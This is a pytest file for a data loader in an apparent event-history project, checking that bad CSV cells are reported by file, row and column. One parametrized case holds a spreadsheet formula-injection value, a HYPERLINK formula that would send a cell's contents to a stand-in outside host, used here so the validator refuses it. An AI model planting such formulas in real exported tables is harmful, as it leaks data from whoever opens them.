"""The loader validates every table against data/datapackage.json and names file, row and column."""

import json
import shutil

import pytest

from peacebook import data
from peacebook.data import DataValidationError

HEADER = (
    "event_id,date,end_date,title,description,category,actors,source_url,source_publisher,"
    "source_date,second_source_url,second_source_publisher"
)
GOOD_ROW = (
    "2014-minsk-protocol,2014-09-05,,Minsk Protocol,A protocol was signed.,agreement,Ukraine;Russia,"
    "https://www.osce.org/home/123,OSCE,2014-09-05,,"
)


@pytest.fixture
def data_dir(tmp_path):
    """A copy of the real data package, and the vocabularies events refer to, with an events table the test
    writes itself."""
    shutil.copy(data.DATA_DIR / "datapackage.json", tmp_path / "datapackage.json")
    shutil.copy(data.DATA_DIR / "event_categories.csv", tmp_path / "event_categories.csv")
    return tmp_path


def write_events(data_dir, *rows, header=HEADER):
    (data_dir / "events.csv").write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")


def problems(data_dir):
    with pytest.raises(DataValidationError) as caught:
        data.load_table("events", data_dir)
    return caught.value.problems


def test_a_good_table_loads_with_types(data_dir):
    write_events(data_dir, GOOD_ROW)
    events = data.load_table("events", data_dir)
    assert list(events.columns) == HEADER.split(",")
    assert str(events.loc[0, "date"].date()) == "2014-09-05"
    assert events.loc[0, "end_date"] is None or str(events.loc[0, "end_date"]) == "NaT"
    assert events.loc[0, "category"] == "agreement"


@pytest.mark.parametrize(
    "column, bad_value, expected",
    [
        ("date", "2014-13-05", "not a real calendar date"),
        ("date", "5 Sep 2014", "not a date written YYYY-MM-DD"),
        ("date", "", "is required but empty"),
        ("category", "battle", "which is not in the event_categories table (it holds: agreement, ceasefire,"),
        ("source_url", "www.osce.org/home", "not a well-formed http(s) URL"),
        ("source_url", "https://news-pravda.com/world/1.html", "refused sources"),
        ("source_url", "https://de.zxc.wiki/wiki/Minsk", "refused sources"),
        # Relays and mirrors a fact-check found cited in place of the original publisher (issue 29, item 11).
        ("source_url", "https://mts.kg/en/v-mire/285-plan.html", "refused sources"),
        ("source_url", "https://newskiev.ru/society/2025/12/24/1022930.html", "refused sources"),
        ("source_url", "https://nikolaevnews.com.ua/society/2026/01/07/324510.html", "refused sources"),
        ("source_url", "https://lifeinua.info/turchynov-signed-amnesty-law-terrorists/", "refused sources"),
        # An ad frame's address copied in place of the article's (the defective address of issue 29).
        (
            "source_url",
            "https://www.ksat.com/topic/Volodymyr_Zelenskyy/securepubads.g.doubleclick.net",
            "names an ad server",
        ),
        ("source_url", "", "is required but empty"),
        ("event_id", "Minsk Protocol", "does not match the pattern"),
        ("title", "x" * 71, "at most 70 are allowed"),
        ("date", "2013-12-31", "below the minimum"),
        ("title", " Minsk", "leading or trailing spaces"),
        # A spreadsheet reads these as formulas; the book publishes its tables for download.
        ("title", '=HYPERLINK("https://x.example/?"&A1)', "the start of a formula"),
        ("description", "+1 more clause was signed.", "the start of a formula"),
        ("description", "-- signed in Minsk", "the start of a formula"),
        ("source_publisher", "@OSCE", "the start of a formula"),
        ("actors", "=Ukraine;Russia", "the start of a formula"),
    ],
)
def test_a_broken_cell_is_reported_with_file_row_and_column(data_dir, column, bad_value, expected):
    cells = dict(zip(HEADER.split(","), GOOD_ROW.split(",")))
    cells[column] = bad_value
    write_events(data_dir, GOOD_ROW.replace("2014-minsk-protocol", "2014-first"), ",".join(cells.values()))
    found = problems(data_dir)
    assert len(found) == 1, found
    problem = found[0]
    assert (problem.row, problem.line, problem.column) == (2, 3, column)
    assert expected in problem.message
    message = str(problem)
    assert "events.csv" in message and "row 2 (line 3)" in message and f"column '{column}'" in message


def test_a_number_may_be_negative_although_text_may_not_start_like_a_formula():
    """Typed fields keep their values: only text cells are refused for a leading - or +."""
    from peacebook.data.cells import check_cell

    assert check_cell("-3.5", {"type": "number"}, []) == -3.5
    assert check_cell("-2", {"type": "integer"}, []) == -2 and check_cell("+2", {"type": "integer"}, []) == 2
    with pytest.raises(ValueError, match="formula"):
        check_cell("-2", {"type": "string"}, [])


def test_every_problem_is_reported_at_once(data_dir):
    write_events(
        data_dir, GOOD_ROW.replace("2014-09-05,,", "2014-09-05,2014-09-01,", 1), GOOD_ROW.replace("agreement", "battle")
    )
    found = problems(data_dir)
    assert {(p.row, p.column) for p in found} == {
        (1, "end_date"),  # ends before it starts
        (2, "category"),  # not in the vocabulary
        (2, "event_id"),  # repeats row 1
    }


def test_a_second_source_needs_its_publisher(data_dir):
    write_events(data_dir, GOOD_ROW[:-2] + ",https://www.bbc.com/news/1,")
    (problem,) = problems(data_dir)
    assert problem.column == "second_source_publisher" and "required when second_source_url" in problem.message


def test_a_row_with_too_few_cells_is_reported(data_dir):
    write_events(data_dir, GOOD_ROW, "2014-short,2014-09-05,,Short")
    (problem,) = problems(data_dir)
    assert problem.row == 2 and "has 4 cells; the header has 12" in problem.message


def test_missing_and_undeclared_columns_are_reported(data_dir):
    header = HEADER.replace("source_publisher,", "publisher,")
    write_events(data_dir, GOOD_ROW, header=header)
    found = {(p.column, p.message) for p in problems(data_dir)}
    assert ("source_publisher", "column declared in the schema is missing") in found
    assert ("publisher", "column is not declared in the schema") in found


def test_a_missing_file_and_a_broken_package_are_reported(data_dir, tmp_path):
    (problem,) = problems(data_dir)  # no events.csv written
    assert problem.message == "file not found" and problem.file.endswith("events.csv")
    (tmp_path / "datapackage.json").write_text("{ not json", encoding="utf-8")
    with pytest.raises(DataValidationError, match="not valid JSON"):
        data.load_table("events", tmp_path)


def test_text_that_is_not_utf8_is_reported(data_dir):
    (data_dir / "events.csv").write_bytes(
        (HEADER + "\n" + GOOD_ROW.replace("Ukraine", "Ukra\xefne") + "\n").encode("latin-1")
    )
    (problem,) = problems(data_dir)
    assert "not UTF-8" in problem.message


def test_an_unknown_table_name_lists_the_tables(data_dir):
    with pytest.raises(KeyError, match="the tables are: events"):
        data.load_table("evnts", data_dir)


def test_the_refused_domains_come_from_the_package(data_dir):
    package = json.loads((data_dir / "datapackage.json").read_text())
    package["sourcePolicy"]["refusedDomains"].append("osce.org")
    (data_dir / "datapackage.json").write_text(json.dumps(package))
    write_events(data_dir, GOOD_ROW)
    (problem,) = problems(data_dir)
    assert problem.column == "source_url" and "www.osce.org is on the list of refused sources" in problem.message


def test_split_list():
    assert data.split_list("Ukraine; Russia;;OSCE") == ["Ukraine", "Russia", "OSCE"]
    assert data.split_list(None) == []


def test_the_ad_servers_refused_in_an_address_come_from_the_package(data_dir):
    """With the list in the package, an address that names one of its ad servers is refused; without it, the same
    address loads."""
    package = json.loads((data_dir / "datapackage.json").read_text())
    package["sourcePolicy"]["refusedInAddress"] = ["example-ads.net"]
    (data_dir / "datapackage.json").write_text(json.dumps(package))
    write_events(
        data_dir, GOOD_ROW.replace("https://www.osce.org/home/123", "https://www.osce.org/home/example-ads.net")
    )
    (problem,) = problems(data_dir)
    assert problem.column == "source_url" and "names an ad server (example-ads.net)" in problem.message
    del package["sourcePolicy"]["refusedInAddress"]
    (data_dir / "datapackage.json").write_text(json.dumps(package))
    assert len(data.load_table("events", data_dir)) == 1


def test_loading_every_table_reads_each_file_once_and_builds_the_vocabularies_once(monkeypatch):
    """Issue #32: each table's references read the tables they point at again, each lookup of a table parsed the
    data package again, and each editorial check built the vocabularies again (load and validate took ~300 ms in
    every notebook; `benchmarks/run.py` prints the time). The work is counted here, not timed."""
    from peacebook.data import editorial
    from peacebook.data.vocabulary import Vocabularies

    opened, built = [], []
    real_open, real_build = type(data.DATA_DIR).open, Vocabularies.from_tables.__func__

    def counting_open(path, *args, **kwargs):
        opened.append(path.name)
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(type(data.DATA_DIR), "open", counting_open)
    monkeypatch.setattr(type(data.DATA_DIR), "read_text", lambda path, **kw: counting_open(path, **kw).read())
    monkeypatch.setattr(
        editorial.Vocabularies,
        "from_tables",
        classmethod(lambda cls, tables: built.append(1) or real_build(cls, tables)),
    )
    tables = data.load_tables()
    assert sorted(opened) == sorted([r["path"] for r in data.load_package()["resources"]] + ["datapackage.json"])
    assert len(built) == 1 and len(tables) == len(data.load_package()["resources"])
